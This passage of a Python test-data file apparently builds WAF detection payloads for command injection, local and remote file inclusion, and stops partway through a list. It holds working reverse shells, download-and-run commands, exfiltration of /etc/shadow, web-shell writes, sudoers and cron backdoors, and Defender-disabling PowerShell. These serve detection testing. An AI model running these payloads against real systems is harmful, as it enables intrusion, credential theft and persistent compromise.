"""Blind set "hundredsixtyninth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way students and instructors solve the classic web-security training labs, with benign requests
from a security team's training channel that carry the same words innocently.

The angle: deliberately vulnerable labs and academy exercises, recalled from memory. DVWA's Command Injection and
File Inclusion pages at low, medium, high and impossible security, bWAPP's OS command injection, shellshock and
RFI/LFI pages, Mutillidae's DNS lookup and page= inclusion, WebGoat's command injection and path traversal
lessons, OWASP Juice Shop's poison-null-byte challenges, PortSwigger Academy's command injection and file path
traversal labs, HackTheBox and TryHackMe web boxes. For each, the first probe (a separator and `id`, `../` and
/etc/passwd, a URL to the student's own box), the working exploit (a reverse shell to the VPN address, a web
shell written into the web root, a log file poisoned then included, a remote shell.txt included), and the
"harder level" variant that defeats the lab's naive filter (case changes, doubled keywords that survive a single
str_replace, alternative separators and syntax, percent, double and overlong encodings). Each list carries a
comment naming its family and its target (the shell, cmd.exe, PowerShell, the PHP include, the CGI bash, the
web server or framework that resolves the path).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, downloader, shell-file-write, restricted-file-names
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi, log-poisoning,
    restricted-file-extensions
  rfi: url-with-ip-address, url-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. The parameter a payload rides under is the one the lab uses:
ip/host/target for command injection, page/file/path/template for inclusion; the include-parameter family also
names the include parameter itself in every copy, and a few of its entries (and log-poisoning's include plus
command pair) are whole `name=value` query strings sent unquoted. Shellshock goes into headers and cookies only,
as a CGI script receives it. Payloads with control characters (newline, NUL) never go into headers, cookies or
the path; payloads with NUL never into XML.

Authorship and independence: written for this repository from general knowledge of each attack family, the
training labs as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredsixtyninth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
KV = ("query", "rs-query")
KF = ("form", "rs-form")

# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: DVWA / bWAPP / Mutillidae ping and DNS-lookup forms, PortSwigger stock-check labs; the
# input lands in `sh -c "ping -c 4 $target"` (target: /bin/sh behind PHP shell_exec/system)
UNIX_INJECTION: list[Entry] = [
    # DVWA low: any separator works
    "127.0.0.1; id",
    "127.0.0.1 && cat /etc/passwd",
    # DVWA medium: '&&' and ';' are removed, a single '&' and '|' still run the second command
    "127.0.0.1 & whoami",
    "127.0.0.1 | uname -a",
    "127.0.0.1 || ls -la",
    # DVWA high: the blacklist holds '| ' with a trailing space, a pipe glued to the command passes
    "127.0.0.1 |id",
    "127.0.0.1|cat /etc/passwd",
    # command substitution instead of a separator (the filter only knew ; & |)
    "127.0.0.1`id`",
    "127.0.0.1$(whoami)",
    # newline is a command separator to sh (Mutillidae DNS lookup, TryHackMe injection room)
    "127.0.0.1\nid",
    "google.com\ncat /etc/passwd",
    # bWAPP OS command injection, the DNS lookup of www.nsa.gov
    "www.nsa.gov; cat /etc/passwd",
    "www.nsa.gov | ls -la /var/www",
    # Mutillidae dns-lookup.php
    "owasp.org && cat /etc/group",
    # PortSwigger simple case: storeId joined to a stock-check script
    "1|whoami",
    # PortSwigger blind with time delay: the email field of the feedback form
    "x||ping -c 10 127.0.0.1||",
    # PortSwigger out-of-band exfiltration through DNS
    "x||nslookup `whoami`.oastify.com||",
    # blind probe with sleep (TryHackMe command injection room)
    "127.0.0.1; sleep 10",
]

# unix-shell-evasion: the "harder level" filters that ban spaces, slashes or keywords (target: bash/sh word
# splitting, quoting, globbing, brace expansion and parameter expansion)
UNIX_EVASION: list[Entry] = [
    # spaces banned: $IFS and brace expansion stand in
    "127.0.0.1;cat${IFS}/etc/passwd",
    "127.0.0.1;cat$IFS$9/etc/passwd",
    "127.0.0.1;{cat,/etc/passwd}",
    "127.0.0.1;cat</etc/passwd",
    # keyword blacklist on cat/whoami: quotes and backslashes split the word, the shell joins it back
    "127.0.0.1|c'a't /etc/pa's's'wd",
    "127.0.0.1|c\"a\"t /e\"t\"c/pass\"w\"d",
    "127.0.0.1;w\\ho\\am\\i",
    "127.0.0.1;who$@ami",
    "127.0.0.1;w$()hoami",
    "127.0.0.1;ca${u}t /et${u}c/pas${u}swd",
    # slashes banned: ${HOME:0:1} is '/'
    "127.0.0.1;cat ${HOME:0:1}etc${HOME:0:1}passwd",
    # globbing: no literal file or command name in the request
    "127.0.0.1;/???/c?t /???/p?ss??",
    "127.0.0.1;/bin/ca* /etc/pass*",
    # encoded commands decoded by the shell itself
    "127.0.0.1;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "127.0.0.1;$(printf '\\x69\\x64')",
    "127.0.0.1;a=$'\\x63\\x61\\x74';$a /etc/passwd",
    "127.0.0.1;rev<<<'dwssap/cte/ tac'|bash",
    "127.0.0.1;$(tr A-Z a-z<<<WHOAMI)",
]

# windows-cmd-injection: DVWA and Mutillidae on XAMPP for Windows, WebGoat's help-file lesson (target: cmd.exe)
WINDOWS_CMD: list[Entry] = [
    "127.0.0.1 & whoami /all",
    "127.0.0.1 && type C:\\Windows\\win.ini",
    "127.0.0.1 | dir C:\\",
    "127.0.0.1 || net user",
    "127.0.0.1 & ipconfig /all",
    "127.0.0.1 & systeminfo",
    "127.0.0.1 & net localgroup administrators",
    "127.0.0.1 & tasklist /v",
    "127.0.0.1 & echo %USERNAME% %COMPUTERNAME%",
    # keyword blacklist: carets and empty quotes are dropped by cmd.exe
    "127.0.0.1 & w^h^o^a^m^i",
    "127.0.0.1 & who\"\"ami",
    "127.0.0.1 & %COMSPEC% /c ver",
    "127.0.0.1 & cmd /c type C:\\inetpub\\wwwroot\\web.config",
    "127.0.0.1 & net user student Passw0rd! /add",
    "127.0.0.1 & findstr /si password *.config *.ini *.xml",
    "127.0.0.1 & reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    # WebGoat command injection lesson: the help file name is quoted inside the command line
    "AccessControlMatrix.help\" & netstat -ano & ipconfig \"",
    "BasicAuthentication.help\" & dir C:\\ & \"",
]

# powershell: the same labs on a Windows host, or a .NET app that hands the value to PowerShell
POWERSHELL: list[Entry] = [
    "127.0.0.1 & powershell -c \"whoami /priv\"",
    "127.0.0.1 & powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString("
    "'http://10.10.14.7/rev.ps1')\"",
    "127.0.0.1 & powershell -enc dwBoAG8AYQBtAGkA",
    "127.0.0.1 & powershell -EncodedCommand "
    "RwBlAHQALQBDAG8AbgB0AGUAbgB0ACAAQwA6AFwAVwBpAG4AZABvAHcAcwBcAHcAaQBuAC4AaQBuAGkA",
    "127.0.0.1 & powershell.exe -ExecutionPolicy Bypass -File \\\\10.10.14.7\\share\\shell.ps1",
    "127.0.0.1; Get-Content C:\\Windows\\win.ini",
    "127.0.0.1; Invoke-WebRequest -Uri http://10.10.14.7/p.exe -OutFile $env:TEMP\\p.exe",
    "127.0.0.1; iwr http://10.10.14.7/a.ps1 -UseBasicParsing | iex",
    "127.0.0.1; Start-Process cmd.exe -ArgumentList '/c whoami > C:\\Windows\\Temp\\o.txt'",
    "127.0.0.1 | powershell -c \"Get-LocalUser\"",
    # case and backtick obfuscation against a lowercase keyword filter
    "127.0.0.1 & pOwErShElL -c \"[Environment]::UserName\"",
    "127.0.0.1 & powershell -c \"I`EX (N`ew-Object Net.WebClient).DownloadString('http://10.10.14.7/x')\"",
    "127.0.0.1; [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA'))|iex",
    "127.0.0.1 & powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    "127.0.0.1 & powershell -c \"Get-ChildItem -Path C:\\Users -Recurse -Filter *.kdbx\"",
    "127.0.0.1 & powershell IEX(IWR http://10.10.14.7/PowerUp.ps1 -UseBasicParsing); Invoke-AllChecks",
]

# unix-command-with-path: full paths to binaries, for labs whose filter strips bare command names or whose PATH
# is empty (target: /bin/sh)
UNIX_PATHS: list[Entry] = [
    "127.0.0.1;/bin/cat /etc/passwd",
    "127.0.0.1|/usr/bin/id",
    "127.0.0.1&&/usr/bin/whoami",
    "127.0.0.1;/bin/ls -la /home",
    "127.0.0.1;/usr/bin/env",
    "127.0.0.1|/bin/uname -a",
    "127.0.0.1;/sbin/ifconfig",
    "127.0.0.1;/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    "127.0.0.1;/bin/ps aux",
    "127.0.0.1;/usr/bin/sudo -l",
    "127.0.0.1`/usr/bin/id`",
    "127.0.0.1$(/bin/hostname)",
    "127.0.0.1;/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    "127.0.0.1;/usr/bin/perl -e 'print `id`'",
    "127.0.0.1;/bin/netstat -tulpn",
    "127.0.0.1|/usr/bin/getent passwd",
]

# reverse-shell: the HTB/THM step after the probe, back to the student's VPN address (target: bash /dev/tcp,
# netcat, python, perl, php, ruby, socat, awk on the lab box)
REVERSE_SHELL: list[Entry] = [
    "127.0.0.1; bash -i >& /dev/tcp/10.10.14.7/4444 0>&1",
    "127.0.0.1; bash -c 'bash -i >& /dev/tcp/10.10.14.7/9001 0>&1'",
    "127.0.0.1 | nc -e /bin/sh 10.10.14.7 4444",
    "127.0.0.1; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.10.14.7 4444 >/tmp/f",
    "127.0.0.1; python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"10.10.14.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call([\"/bin/sh\",\"-i\"])'",
    "127.0.0.1; perl -e 'use Socket;$i=\"10.10.14.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    "127.0.0.1; socat tcp-connect:10.10.14.7:4444 exec:/bin/bash,pty,stderr,setsid,sigint,sane",
    "127.0.0.1; php -r '$sock=fsockopen(\"10.10.14.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "127.0.0.1; ruby -rsocket -e'f=TCPSocket.open(\"10.10.14.7\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "127.0.0.1; nc 10.10.14.7 4444 | /bin/bash | nc 10.10.14.7 4445",
    "127.0.0.1; ncat 10.10.14.7 4444 -e /bin/bash",
    "127.0.0.1; busybox nc 10.10.14.7 4444 -e sh",
    "127.0.0.1; sh -i >& /dev/udp/10.10.14.7/4444 0>&1",
    "127.0.0.1; 0<&196;exec 196<>/dev/tcp/10.10.14.7/4444; sh <&196 >&196 2>&196",
    "127.0.0.1; echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4xMC4xNC43LzQ0NDQgMD4mMQ==|base64 -d|bash",
    "127.0.0.1; awk 'BEGIN{s=\"/inet/tcp/0/10.10.14.7/4444\";while((s|&getline c)>0){while((c|&getline l)>0)"
    "print l|&s;close(c)}}'",
    "127.0.0.1; telnet 10.10.14.7 4444 | /bin/sh | telnet 10.10.14.7 4445",
    "127.0.0.1 & powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('10.10.14.7',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)."
    "GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$x=([text.encoding]::ASCII).GetBytes($o);"
    "$s.Write($x,0,$x.Length)}\"",
]

# shellshock: bWAPP's shellshock.sh (through Referer), HTB Shocker's /cgi-bin/user.sh, TryHackMe's 0day
# (target: bash < 4.3 importing a function definition from a CGI environment variable)
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/cat /etc/passwd",
    "() { :;}; /bin/bash -c 'id'",
    "() { :; }; echo Content-Type: text/plain; echo; /usr/bin/id",
    "() { ignored; }; /bin/bash -i >& /dev/tcp/10.10.14.7/4444 0>&1",
    "() { :; }; /bin/sleep 5",
    "() { :;}; /usr/bin/wget http://10.10.14.7/shocked",
    "() { :; }; echo vulnerable",
    "() { _; } >_[$($())] { echo; id; }",
    "() { (a)=>\\' /bin/bash -c 'cat /etc/passwd'",
    "() { :; }; /bin/ping -c 3 10.10.14.7",
    "() { :; }; echo; echo; /bin/bash -c 'cat /etc/shadow'",
    "() { :;}; /usr/bin/curl http://10.10.14.7/$(whoami)",
    "() { :; }; /bin/nc -e /bin/sh 10.10.14.7 4444",
    "() { test;};/bin/uname -a",
    "() { :; };echo;/usr/bin/env",
    "() { :;}; /bin/touch /tmp/shocked",
]

# downloader: fetch a second stage and run or drop it (target: sh with curl/wget/tftp, cmd.exe with
# certutil/bitsadmin, the python and php interpreters on the box)
DOWNLOADER: list[Entry] = [
    "127.0.0.1; curl http://10.10.14.7/shell.sh | bash",
    "127.0.0.1; wget -qO- http://10.10.14.7/x.sh | sh",
    "127.0.0.1; wget http://10.10.14.7/shell.php -O /var/www/html/shell.php",
    "127.0.0.1; curl -o /tmp/nc http://10.10.14.7/nc && chmod +x /tmp/nc",
    "127.0.0.1 | curl -s http://10.10.14.7/linpeas.sh | sh",
    "127.0.0.1; cd /tmp && wget http://10.10.14.7/rev && chmod 777 rev && ./rev",
    "127.0.0.1;curl 10.10.14.7:8000/s.sh|bash",
    "127.0.0.1$(curl -fsSL http://10.10.14.7/i)",
    "127.0.0.1`wget -q -O /tmp/s http://10.10.14.7/s`",
    "127.0.0.1; tftp -g -r shell.sh 10.10.14.7",
    "127.0.0.1; curl -X POST -d @/etc/passwd http://10.10.14.7:8000/",
    "127.0.0.1; wget --post-file=/etc/shadow http://10.10.14.7/",
    "127.0.0.1 & certutil -urlcache -split -f http://10.10.14.7/nc.exe C:\\Windows\\Temp\\nc.exe",
    "127.0.0.1 & bitsadmin /transfer job /download /priority high http://10.10.14.7/s.exe C:\\Users\\Public\\s.exe",
    "127.0.0.1; python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://10.10.14.7/p.py').read())\"",
    "127.0.0.1; php -r \"file_put_contents('/var/www/html/s.php', file_get_contents('http://10.10.14.7/s.txt'));\"",
    "127.0.0.1;curl${IFS}http://10.10.14.7/s|sh",
]

# shell-file-write: echo/tee/redirection into the web root, cron, ssh or passwd (target: sh and cmd.exe; the
# written file is then served by Apache/PHP, Tomcat or IIS)
FILE_WRITE: list[Entry] = [
    "127.0.0.1; echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/shell.php",
    "127.0.0.1 | echo '<?php passthru($_REQUEST[c]);?>' > ../../hackable/uploads/c.php",
    "127.0.0.1; echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/html/x.php",
    "127.0.0.1; printf '<?php eval($_POST[1]);?>' | tee /var/www/html/uploads/p.php",
    "x||whoami>/var/www/images/output.txt||",
    "127.0.0.1; id > /var/www/html/id.txt",
    "127.0.0.1; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbq kali@kali' >> /root/.ssh/authorized_keys",
    "127.0.0.1; echo 'hacker:$1$xyz$Q5cS0gt1zR0QYkUf/mtJ5.:0:0::/root:/bin/bash' >> /etc/passwd",
    "127.0.0.1; echo '* * * * * root bash -c \"bash -i >& /dev/tcp/10.10.14.7/4444 0>&1\"' >> /etc/crontab",
    "127.0.0.1; tee -a /etc/sudoers <<< 'www-data ALL=(ALL) NOPASSWD: ALL'",
    "127.0.0.1; cat /etc/passwd > /var/www/html/p.txt",
    "127.0.0.1 & echo ^<?php system($_GET['c']); ?^> > C:\\xampp\\htdocs\\dvwa\\c.php",
    "127.0.0.1 & type C:\\Windows\\win.ini > C:\\inetpub\\wwwroot\\w.txt",
    "127.0.0.1; cp /bin/bash /tmp/rootbash && chmod +s /tmp/rootbash",
    "127.0.0.1; echo '<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>' > "
    "/var/lib/tomcat9/webapps/ROOT/c.jsp",
    "127.0.0.1; ls -la / 1>/var/www/html/out.txt 2>&1",
    "127.0.0.1; dd if=/etc/shadow of=/var/www/html/s.txt",
]

# restricted-file-names: the files a command-injection student reads first (target: sh and cmd.exe)
RESTRICTED_NAMES: list[Entry] = [
    "127.0.0.1;cat /etc/shadow",
    "127.0.0.1 && cat /etc/group",
    "127.0.0.1;cat /root/.ssh/id_rsa",
    "127.0.0.1;cat /home/*/.ssh/id_rsa",
    "127.0.0.1;cat /proc/self/environ",
    "127.0.0.1;cat ../../config/config.inc.php",
    "127.0.0.1;cat /etc/hosts",
    "127.0.0.1;more /etc/issue",
    "127.0.0.1;head /etc/sudoers",
    "127.0.0.1;tail -n 20 /var/log/apache2/access.log",
    "127.0.0.1;cat ~/.bash_history",
    "127.0.0.1;cat /root/root.txt",
    "127.0.0.1;grep -r DB_PASSWORD /var/www/html/.env",
    "127.0.0.1;less /etc/mysql/my.cnf",
    "127.0.0.1;nl /etc/passwd",
    "127.0.0.1;od -c /etc/shadow",
    "127.0.0.1 & type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "127.0.0.1 & type C:\\Windows\\repair\\SAM",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal: DVWA File Inclusion ?page=, bWAPP ?language=, Mutillidae ?page=, PortSwigger image loader
# ?filename=, WebGoat path traversal lesson (target: PHP include/fopen, Java File, Tomcat, IIS resolving ../)
PATH_TRAVERSAL: list[Entry] = [
    # DVWA low and PortSwigger simple case
    "../../../../../etc/passwd",
    "../../../../../../../../../../etc/passwd",
    # DVWA medium: str_replace removes '../' and '..\\' once, the doubled form survives as ../
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/passwd",
    "....\\/....\\/....\\/....\\/etc/passwd",
    # PortSwigger: traversal stripped non-recursively / absolute path blocked
    "....//....//....//etc//passwd",
    "..//..//..//..//etc/passwd",
    # PortSwigger: validation of the start of the path
    "/var/www/images/../../../etc/passwd",
    # percent-encoded once more than the framework decodes (the lab decodes the parameter again)
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    # overlong UTF-8 and IIS %u encodings
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%u2216..%u2216..%u2216windows%u2216win.ini",
    # Windows labs (XAMPP): backslashes, encoded backslashes
    "..\\..\\..\\..\\..\\windows\\win.ini",
    "..%5c..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255c..%255cwindows%255cwin.ini",
    "..\\/..\\/..\\/..\\/etc/passwd",
    # Tomcat path parameters: ..;/ is normalised after the proxy checked the path (HTB Seal-style)
    "..;/..;/..;/..;/etc/passwd",
    "/..;/manager/html",
]

# os-file-access: the files an inclusion student goes after (target: Linux and Windows hosts of the labs,
# Apache, IIS, git, dotenv, SSH)
OS_FILES: list[Entry] = [
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/status",
    "../../../../proc/version",
    "../../../../proc/net/tcp",
    "../../../../proc/self/cwd/app.py",
    "../../../../../windows/win.ini",
    "..\\..\\..\\..\\boot.ini",
    "../../web.config",
    "../.htaccess",
    "../../.git/config",
    "../../../.git/HEAD",
    "../../../.env",
    "../../../../home/student/.ssh/id_rsa",
    "../../../../root/.ssh/id_rsa",
    "../../../../root/.bash_history",
    "../../../../etc/shadow",
    "../../config/database.yml",
    "../../../../var/www/html/wp-config.php",
    "../../WEB-INF/web.xml",
    "../../../../etc/mysql/my.cnf",
    "..\\..\\..\\..\\Windows\\System32\\config\\SAM",
    "../../../../root/root.txt",
]

# absolute-path: DVWA low accepts an absolute path; PortSwigger "absolute path bypass" lab (target: PHP include
# and fopen, Java File, .NET File.ReadAllText on Linux and Windows hosts)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/etc/group",
    "/etc/issue",
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\xampp\\php\\php.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "/etc/apache2/apache2.conf",
    "/etc/nginx/nginx.conf",
    "/etc/nginx/sites-enabled/default",
    "/var/www/html/dvwa/config/config.inc.php",
    "/opt/lampp/etc/httpd.conf",
    "/etc/php/7.4/apache2/php.ini",
    "/root/.ssh/authorized_keys",
    "/home/ubuntu/.bash_history",
    "/etc/tomcat9/tomcat-users.xml",
    "C:\\Users\\Administrator\\Desktop\\root.txt",
    "C:\\Windows\\Panther\\Unattend.xml",
    "/proc/self/cmdline",
]

# null-byte-truncation: labs on PHP < 5.3.4 that append ".php" (DVWA on old XAMPP, bWAPP), Juice Shop's poison
# null byte on /ftp, PortSwigger's extension-validation lab (target: PHP include and C-string file APIs)
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.php",
    "/etc/passwd\x00.html",
    "../../../etc/passwd\x00.png",
    "....//....//....//etc/passwd\x00",
    "..\\..\\..\\windows\\win.ini\x00.php",
    "../../../../proc/self/environ\x00",
    "../../../../var/log/apache2/access.log\x00",
    "/etc/shadow\x00.jpg",
    # the null byte sent encoded once more (the value still carries %00 when the lab decodes it again)
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.php",
    "..%2f..%2f..%2fetc%2fpasswd%00.php",
    "../../../../../etc/passwd%2500",
    # Juice Shop /ftp: only .md and .pdf allowed, the null byte cuts the extension off
    "package.json.bak%00.md",
    "coupons_2013.md.bak%00.md",
    "eastere.gg%00.pdf",
    "suspicious_errors.yml%00.md",
    # path truncation on old PHP: the appended extension falls off past 4096 characters
    "../../../../etc/passwd" + "/." * 2100,
    "a/../../../../../etc/passwd" + "/." * 2050,
    "../../../../etc/passwd/./././././././././.",
    "..\\..\\..\\boot.ini.........................",
]

# php-wrapper-lfi: PHP stream wrappers through include() (DVWA high accepts file://, bWAPP and HTB boxes read
# source with php://filter) (target: PHP's stream layer)
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../config/config.inc.php",
    "php://filter/convert.base64-encode/resource=/etc/passwd",
    "php://filter/resource=../../../../etc/passwd",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/read=string.toupper|string.rot13/resource=login.php",
    "php://filter/convert.base64-encode/resource=file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=../../../../var/www/html/wp-config.php",
    # lowercase-only filters: the wrapper name is case-insensitive
    "pHp://FilTer/convert.base64-encode/resource=index",
    "PHP://filter/convert.base64-encode/resource=config",
    "php://input",
    "PHP://INPUT",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7ID8+",
    "zip://uploads/avatar.jpg#shell.php",
    "zip:///var/www/html/hackable/uploads/x.zip%23cmd",
    "phar://uploads/evil.jpg/shell.php",
    # DVWA high: the page must start with "file"
    "file:///etc/passwd",
    "file://C:/Windows/win.ini",
    "file:///proc/self/environ",
    "compress.zlib://../../../../etc/passwd",
    "compress.bzip2:///etc/shadow",
]

# log-poisoning: the file included after the User-Agent, SSH user name or mail carried PHP code into it
# (target: Apache, nginx, vsftpd, sshd and mail logs, PHP session files, /proc/self/environ)
LOG_POISONING: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/mail/www-data",
    "/proc/self/environ",
    "/proc/self/fd/2",
    "C:\\xampp\\apache\\logs\\access.log",
    "..\\..\\..\\..\\xampp\\apache\\logs\\error.log",
    "/var/lib/php/sessions/sess_9b4d2c7a1f0e3b5c6d8a7e9f0a",
    "/tmp/sess_9b4d2c7a1f0e3b5c6d8a7e9f0a",
    "/var/log/httpd/access_log",
    "/usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "../../../../var/log/mail.log",
    "/var/log/secure",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240612.log",
    # the include and the command the poisoned log runs, in one query string
    ("page=../../../../var/log/apache2/access.log&cmd=id", *KV),
    ("page=/var/log/auth.log&c=uname%20-a", *KV),
    ("file=/proc/self/environ&cmd=cat%20/etc/passwd", *KF),
]

# restricted-file-extensions: backups and configuration left in the web root (target: Apache/PHP, IIS/ASP.NET,
# Juice Shop's /ftp, the labs' config directories)
RESTRICTED_EXT: list[Entry] = [
    "../../config/config.inc.php.bak",
    "../config/config.inc.php.dist.old",
    "index.php.old",
    "../web.config.bak",
    "../../database.sql",
    "backup/db_backup.sql",
    "../../php.ini",
    "../config.ini",
    "../settings.ini",
    "../../app.config",
    "../wp-config.php.bak",
    "../wp-config.php~",
    "../../.env.bak",
    "../includes/db.inc",
    "package.json.bak",
    "../.config.php.swp",
    "../settings.py.orig",
    "../../dump.sql",
    "..\\..\\web.config.old",
    "../../application.ini",
    "../../inc/config.inc.old",
    "../../global.asa",
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address: DVWA low/medium File Inclusion, bWAPP RFI, OSCP-style labs pointing include() at the
# student's own box (target: PHP include with allow_url_include=On)
URL_IP: list[Entry] = [
    "http://10.10.14.7/shell.txt",
    "http://192.168.56.101/php-reverse-shell.php",
    "http://10.0.2.15:8000/cmd.txt",
    "https://203.0.113.45/payload.txt",
    "http://172.16.5.20/c99.txt",
    "http://10.8.0.2/shell.txt",
    "http://10.9.1.55:8080/pwn.txt",
    "http://192.168.0.105/nc.txt",
    "http://10.10.16.3/php-backdoor.txt",
    "http://10.11.0.4/evil.txt",
    "http://10.10.14.7/test.txt",
    "http://10.10.14.7/shell.php.txt",
    "http://10.10.14.7/wso.txt",
    "http://198.51.100.23/b374k.txt",
    "https://10.10.14.7:8443/x.txt",
    "http://10.10.14.7:4444/rev.txt",
    "http://192.168.1.66/shell.txt?cmd=id",
    "http://100.64.3.9/x.txt",
    # DVWA medium: str_replace drops "http://" once, case and doubling survive
    "hTTp://10.10.14.7/s.txt",
    "HTTP://192.168.56.1/shell.txt",
    "hthttp://tp://10.10.14.7/s.txt",
    "hthttps://tps://10.10.14.7/s.txt",
    # the IP written as hex, decimal, octal, IPv6-mapped (a blacklist on dotted IPs)
    "http://0xa0a0e07/s.txt",
    "http://168431111/s.txt",
    "http://012.012.016.07/s.txt",
    "http://[::ffff:a0a:e07]/s.txt",
    "http://0x0a.0x0a.0x0e.0x07/s.txt",
    # protocol-relative, null byte against the appended .php
    "//10.10.14.7/shell.txt",
    "http://10.10.14.7/shell.txt\x00",
    "http://10.10.14.7/shell.txt%00",
    "http://10.10.14.7/phpinfo.txt",
    "http://10.10.14.7/shell.jpg",
]

# url-trailing-question-mark: the lab appends ".php"; a trailing ? turns it into the remote query string
# (target: PHP include over http(s))
URL_QUESTION: list[Entry] = [
    "http://evil.example.com/shell.txt?",
    "http://10.10.14.7/shell.txt?",
    "https://attacker.example.net/c.txt?",
    "http://evil.example.com/shell.txt?x=",
    "http://evil.example.com/shell.txt??",
    "hthttp://tp://evil.example.com/s.txt?",
    "HTTP://evil.example.com/s.txt?",
    "http://pastebin.com/raw/Xy7Qa1Bc?",
    "https://raw.githubusercontent.com/pentestmonkey/php-reverse-shell/master/php-reverse-shell.php?",
    "http://evil.example.com/shell.txt%3f",
    "http://192.168.56.1:8000/rev.txt?",
    "http://10.10.14.7/cmd.txt?cmd=id&",
    "https://evil.example.com/r57.txt?",
    "http://evil.example.com/c99.txt?.php",
    "http://evil.example.com/x?",
    "http://evil.example.com/shell.txt?ignore=",
    "ftp://10.10.14.7/shell.txt?",
    "http://evil.example.com/shell.txt?\x00",
    "https://gist.githubusercontent.com/h4x/ab12cd/raw/shell.txt?",
    "http://evil.example.com/inc/config.txt?lang=",
    "http://10.0.2.15/php-reverse-shell.txt?",
    "http://shell.evil.example.com/?",
    "http://evil.example.com:8080/backdoor.txt?",
    "HtTpS://evil.example.com/s.txt?",
    "http://evil.example.com/shell.txt?&",
    "http://evil.example.com/shell.txt?page=",
    "http://203.0.113.45/s.txt?",
